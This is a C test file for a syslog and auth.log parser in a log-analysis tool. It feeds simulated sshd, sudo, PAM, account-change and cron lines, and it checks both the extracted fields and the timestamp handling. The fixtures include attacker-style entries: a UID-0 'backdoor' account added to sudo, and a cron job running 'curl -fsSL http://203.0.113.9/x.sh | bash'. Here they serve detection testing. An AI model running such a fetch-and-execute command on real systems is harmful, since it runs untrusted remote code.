/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test-parse-syslog.c - the syslog/auth.log parser: RFC 3164 lines with the
 * year inferred from the file mtime (and the Dec -> Jan rollover), RFC 3339
 * and RFC 5424 headers, the auth semantics (sshd, PAM, sudo, su, account
 * changes, logind, cron) with exact values, the fields() view (sudo's
 * USER/COMMAND pairs), bad lines naming their byte, sniff scores.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <tyto/buf.h>
#include <tyto/parser.h>

#include "parse-harness.h"
#include "test.h"

#define JAN5_2024 INT64_C(1704412800) /* 2024-01-05T00:00:00Z */

static int feed0(struct h *h, const char *line)
{
    h->offset = 0;
    return h_feed_raw(h, line, strlen(line));
}

/* open with a file mtime (h_open opens without one) */
static void open_mtime(struct h *h, const char *head, int64_t mtime_s)
{
    h_open(h, &ty_parser_syslog, head, strlen(head));
    ty_parser_syslog.close(&h->ctx);
    h->ctx.file_mtime = mtime_s * 1000000000;
    CHECK_INT(ty_parser_syslog.open(&h->ctx, &h->err), 0);
}

static int collect(void *arg, struct ty_str name, struct ty_str value)
{
    struct ty_buf *b = arg;
    ty_buf_addstr(b, name);
    ty_buf_addc(b, '=');
    ty_buf_addstr(b, value);
    ty_buf_addc(b, '\n');
    return 0;
}

static const char accepted[] =
    "Jan  2 15:05:02 bastion-1 sshd[2201]: Accepted publickey for alice from 203.0.113.77 port "
    "51544 ssh2: ED25519 SHA256:qZ7wXv8m3Qe1uT0yJm2kq0bq8Hk3n9sQe0E4t5uYcWs";
static const char accepted_json[] =
    "{'ts':'2024-01-02T15:05:02Z','ts_prec':0,'time_text':'Jan  2 15:05:02','category':'auth',"
    "'action':'ssh_login','provider':'sshd','outcome':'success','status_detail':'publickey',"
    "'actor':'alice','access_key':'SHA256:qZ7wXv8m3Qe1uT0yJm2kq0bq8Hk3n9sQe0E4t5uYcWs',"
    "'src_ip':'203.0.113.77','src_port':51544,'host':'bastion-1','pid':2201,'message':"
    "'Accepted publickey for alice from 203.0.113.77 port 51544 ssh2: ED25519 "
    "SHA256:qZ7wXv8m3Qe1uT0yJm2kq0bq8Hk3n9sQe0E4t5uYcWs','format':'syslog','offset':0,"
    "'line':1}\n";

static const char sudo_l[] = "Jan  2 15:06:41 bastion-1 sudo:    alice : TTY=pts/1 ; "
                             "PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -c a ; b";
static const char sudo_json[] =
    "{'ts':'2024-01-02T15:06:41Z','ts_prec':0,'time_text':'Jan  2 15:06:41','category':"
    "'process','action':'sudo','provider':'sudo','outcome':'success','actor':'alice','host':"
    "'bastion-1','target_user':'root','process_exe':'/bin/bash','process_cmdline':'/bin/bash -c "
    "a ; b','process_user':'root','process_cwd':'/home/alice','message':'alice : TTY=pts/1 ; "
    "PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -c a ; b','format':'syslog','offset':0,"
    "'line':1}\n";

static void test_auth(void)
{
    struct h h;
    struct ty_buf f;
    char ipb[TY_IP_STRLEN];
    ty_buf_init(&f, 0);
    open_mtime(&h, accepted, JAN5_2024);
    CHECK_STR(h.ctx.shape, "RFC 3164; year 2024 from file mtime; UTC assumed");
    CHECK_INT(feed0(&h, accepted), TY_OK);
    CHECK_STR(h.out.buf, q(&h, accepted_json));
    CHECK_INT(ty_parser_syslog.taxonomy(&h.last), TY_SCAT_NONE);
    CHECK_STR(ty_parser_syslog.service(&h.last), "sshd");
    CHECK_INT(ty_parser_syslog.fields(&h.last, collect, &f), 0);
    CHECK_STR(f.buf, "host=bastion-1\nprogram=sshd\npid=2201\nmessage=Accepted publickey for "
                     "alice from 203.0.113.77 port 51544 ssh2: ED25519 "
                     "SHA256:qZ7wXv8m3Qe1uT0yJm2kq0bq8Hk3n9sQe0E4t5uYcWs\n");

    CHECK_INT(feed0(&h, sudo_l), TY_OK);
    CHECK_STR(h.out.buf, q(&h, sudo_json));
    CHECK_INT(ty_parser_syslog.taxonomy(&h.last), TY_SCAT_PROCESS_CREATION);
    CHECK_STR(ty_parser_syslog.service(&h.last), "sudo");
    ty_buf_reset(&f);
    ty_parser_syslog.fields(&h.last, collect, &f);
    CHECK(strstr(f.buf, "\nTTY=pts/1\nPWD=/home/alice\nUSER=root\nCOMMAND=/bin/bash -c a ; b\n"));

    CHECK_INT(feed0(&h, "Jan  2 15:06:50 b sudo:      bob : 3 incorrect password attempts ; "
                        "TTY=pts/2 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_OUTCOME), "failure");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_STATUS_DETAIL), "3 incorrect password attempts");
    CHECK_INT(ty_parser_syslog.taxonomy(&h.last), TY_SCAT_NONE);

    CHECK_INT(feed0(&h, "Jan  2 15:04:58 b sshd[2190]: Failed password for invalid user admin "
                        "from 198.51.100.61 port 50122 ssh2"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR), "admin");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_OUTCOME), "failure");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_STATUS_CODE), "invalid_user");
    CHECK_STR(ipstr(&h.last, TY_F_SRC_IP, ipb), "198.51.100.61");
    CHECK_INT(ty_event_int(&h.last, TY_F_SRC_PORT, 0), 50122);

    CHECK_INT(feed0(&h, "Jan  2 15:04:59 b sshd[2191]: Invalid user  from 198.51.100.62 port 1"),
              TY_OK);
    CHECK(!ty_event_has(&h.last, TY_F_ACTOR)); /* empty user name */
    CHECK_STR(ipstr(&h.last, TY_F_SRC_IP, ipb), "198.51.100.62");

    CHECK_INT(feed0(&h, "Jan  2 15:05:00 b sshd[2250]: Connection closed by authenticating user "
                        "root 198.51.100.61 port 50210 [preauth]"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR), "root");
    CHECK_INT(ty_event_int(&h.last, TY_F_SRC_PORT, 0), 50210);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_STATUS_CODE), "preauth_closed");

    CHECK_INT(feed0(&h, "Jan  2 15:05:01 b sshd[2250]: error: maximum authentication attempts "
                        "exceeded for root from 198.51.100.61 port 50211 ssh2 [preauth]"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_STATUS_CODE), "max_auth_tries");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR), "root");

    CHECK_INT(feed0(&h, "Jan  2 15:05:03 b sshd[2201]: pam_unix(sshd:session): session opened "
                        "for user alice(uid=1000) by (uid=0)"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "session_open");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR), "alice");
    CHECK(!ty_event_has(&h.last, TY_F_TARGET_USER));

    CHECK_INT(feed0(&h, "Jan  2 15:05:04 b su: pam_unix(su:session): session opened for user "
                        "root(uid=0) by alice(uid=1000)"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR), "alice");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET_USER), "root");

    CHECK_INT(feed0(&h, "Jan  2 15:05:05 b sshd[7]: pam_unix(sshd:auth): authentication failure; "
                        "logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.9  user=bob"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "auth_failure");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR), "bob");
    CHECK_STR(ipstr(&h.last, TY_F_SRC_IP, ipb), "192.0.2.9");

    CHECK_INT(feed0(&h, "Jan  2 15:05:06 b su: FAILED su for root by mallory"), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "su");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_OUTCOME), "failure");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR), "mallory");
    CHECK_STR(ty_parser_syslog.service(&h.last), "auth");
    CHECK_INT(feed0(&h, "Jan  2 15:05:07 b su: (to root) alice on pts/1"), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET_USER), "root");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR), "alice");

    CHECK_INT(feed0(&h, "Jan  2 15:05:08 b useradd[3001]: new user: name=backdoor, UID=0, GID=0, "
                        "home=/root, shell=/bin/bash, from=/dev/pts/1"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "user_created");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET_USER), "backdoor");
    CHECK_INT(feed0(&h, "Jan  2 15:05:09 b usermod[3002]: add 'backdoor' to group 'sudo'"), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "group_member_added");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET_NAME), "sudo");
    CHECK_INT(feed0(&h, "Jan  2 15:05:10 b groupadd[3004]: group added to /etc/group: name=ops, "
                        "GID=1002"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "group_created");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET_NAME), "ops");
    CHECK_INT(feed0(&h, "Jan  2 15:05:11 b passwd[3003]: pam_unix(passwd:chauthtok): password "
                        "changed for backdoor"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "password_changed");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET_USER), "backdoor");
    CHECK_INT(feed0(&h, "Jan  2 15:05:12 b systemd-logind[700]: New session 12 of user alice."),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR_SESSION), "12");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR), "alice");

    CHECK_INT(feed0(&h, "Jan  2 15:05:01 b CRON[3100]: (yarn) CMD (curl -fsSL "
                        "http://203.0.113.9/x.sh | bash)"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "cron_exec");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_USER), "yarn");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_CMDLINE),
               "curl -fsSL http://203.0.113.9/x.sh | bash");
    CHECK_INT(ty_event_int(&h.last, TY_F_PID, 0), 3100);
    CHECK_INT(ty_parser_syslog.taxonomy(&h.last), TY_SCAT_PROCESS_CREATION);
    CHECK_STR(ty_parser_syslog.service(&h.last), "cron");

    /* anything else: a plain message, program as the action */
    CHECK_INT(feed0(&h, "Jan  2 15:05:13 b kernel: [ 1234.5678] Out of memory"), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CATEGORY), "syslog");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "kernel");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE), "[ 1234.5678] Out of memory");
    CHECK_STR(ty_parser_syslog.service(&h.last), "syslog");
    CHECK_INT(feed0(&h, "Jan  2 15:05:14 b last message repeated 3 times"), TY_OK);
    CHECK(!ty_event_has(&h.last, TY_F_PROVIDER));
    CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE), "last message repeated 3 times");

    /* bad lines */
    CHECK_INT(feed0(&h, "garbage line"), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "byte 0: no syslog time") != NULL);
    CHECK_INT(feed0(&h, "Jan 32 15:05:14 b x: y"), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "out of range") != NULL);
    CHECK_INT(feed0(&h, "Jan  2 15:05:14"), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "byte 15: no host") != NULL);
    CHECK_INT(feed0(&h, "<999>Jan  2 15:05:14 b x: y"), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "byte 0: bad <PRI>") != NULL);
    CHECK_INT(feed0(&h, "<13>1 2024-03-12T14:05:09Z host"), TY_ECORRUPT);
    CHECK_INT(feed0(&h, "<13>1 2024-03-12T14:05:09Z h a p m [x y=\"]\" z"), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "structured data not closed") != NULL);
    h_close(&h);
    ty_buf_release(&f);
}

static void test_years_and_headers(void)
{
    struct h h;
    struct ty_buf f;
    ty_buf_init(&f, 0);
    /* mtime 2025-02-10: Nov/Dec lines are 2024, then Jan/Feb 2025 */
    const char *nov = "Nov 30 23:00:00 h cron[1]: x";
    open_mtime(&h, nov, INT64_C(1739145600));
    CHECK_STR(h.ctx.shape, "RFC 3164; year 2024 from file mtime; UTC assumed");
    const char *lines[] = {nov, "Dec 31 23:59:59 h cron[1]: x", "Dec 31 23:59:58 h cron[1]: x",
                           "Jan  1 00:00:01 h cron[1]: x", "Feb  9 08:00:00 h cron[1]: x"};
    const int64_t want[] = {INT64_C(1733007600), INT64_C(1735689599), INT64_C(1735689598),
                            INT64_C(1735689601), INT64_C(1739088000)};
    for (int i = 0; i < 5; i++) {
        CHECK_INT(feed0(&h, lines[i]), TY_OK);
        CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), want[i] * 1000000000);
    }
    h_close(&h);

    /* no mtime: the analysis clock, said so */
    h_open(&h, &ty_parser_syslog, nov, strlen(nov));
    CHECK(strstr(h.ctx.shape, "from analysis clock; UTC assumed") != NULL);
    h_close(&h);

    /* RFC 3339 (rsyslog) and RFC 5424 */
    const char *r3339 = "2024-03-12T14:05:09.417002+01:00 web-1 sshd[2201]: Accepted password "
                        "for root from 2001:db8::7 port 22 ssh2";
    h_open(&h, &ty_parser_syslog, r3339, strlen(r3339));
    CHECK_STR(h.ctx.shape, "syslog, RFC 3339 times");
    CHECK_INT(feed0(&h, r3339), TY_OK);
    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1710248709417002000));
    CHECK_INT(ty_event_int(&h.last, TY_F_TS_PREC, 0), 6);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR), "root");
    const char *r5424 = "<38>1 2024-03-12T14:05:09.123Z web-1 sshd 2201 ID47 [meta x=\"a]b\"]"
                        "[o y=\"\\]\"] \xef\xbb\xbf" "Failed password for root from 192.0.2.1 port "
                        "22 ssh2";
    CHECK_INT(feed0(&h, r5424), TY_OK);
    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1710252309123000000));
    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROVIDER), "sshd");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_OUTCOME), "failure");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE),
               "Failed password for root from 192.0.2.1 port 22 ssh2");
    ty_parser_syslog.fields(&h.last, collect, &f);
    CHECK_STR(f.buf, "host=web-1\nprogram=sshd\npid=2201\nmsgid=ID47\nfacility=4\nseverity=6\n"
                     "message=Failed password for root from 192.0.2.1 port 22 ssh2\n");
    CHECK_INT(feed0(&h, "<13>1 - h a p m - x"), TY_ECORRUPT);
    h_close(&h);
    ty_buf_release(&f);

    CHECK_INT(ty_parser_syslog.sniff(ty_str_cstr(accepted)), 75);
    CHECK_INT(ty_parser_syslog.sniff(ty_str_cstr(r3339)), 70);
    CHECK_INT(ty_parser_syslog.sniff(ty_str_cstr(r5424)), 80);
    CHECK_INT(ty_parser_syslog.sniff(ty_str_cstr("type=EOE msg=audit(1.2:3):\n")), 0);
    CHECK_INT(ty_parser_syslog.sniff(ty_str_cstr("127.0.0.1 - - [10/Oct/2000:13:55:36 -0700] "
                                                 "\"GET / HTTP/1.0\" 200 1\n")),
              0);
    CHECK_INT(ty_parser_syslog.sniff(ty_str_cstr("{\"ts\":1}\n")), 0);
}

/* Stream accounting: every line is an event or quarantined. */
static void test_stream(void)
{
    struct h h;
    struct run_counts c = h_run(&h, &ty_parser_syslog,
                                "Mar 12 15:04:58 bastion-1 sshd[2190]: Failed password for "
                                "invalid user admin from 198.51.100.61 port 50122 ssh2\n"
                                "not a syslog line\n\n"
                                "Mar 12 15:06:41 bastion-1 sudo:    alice : TTY=pts/1 ; "
                                "PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -i\r\n");
    CHECK_INT(c.rec, 3);
    CHECK_INT(c.ev, 2);
    CHECK_INT(c.bad, 1);
    h_close(&h);
}

void test_parse_syslog(void);
void test_parse_syslog(void)
{
    test_auth();
    test_years_and_headers();
    test_stream();
    q_release();
}
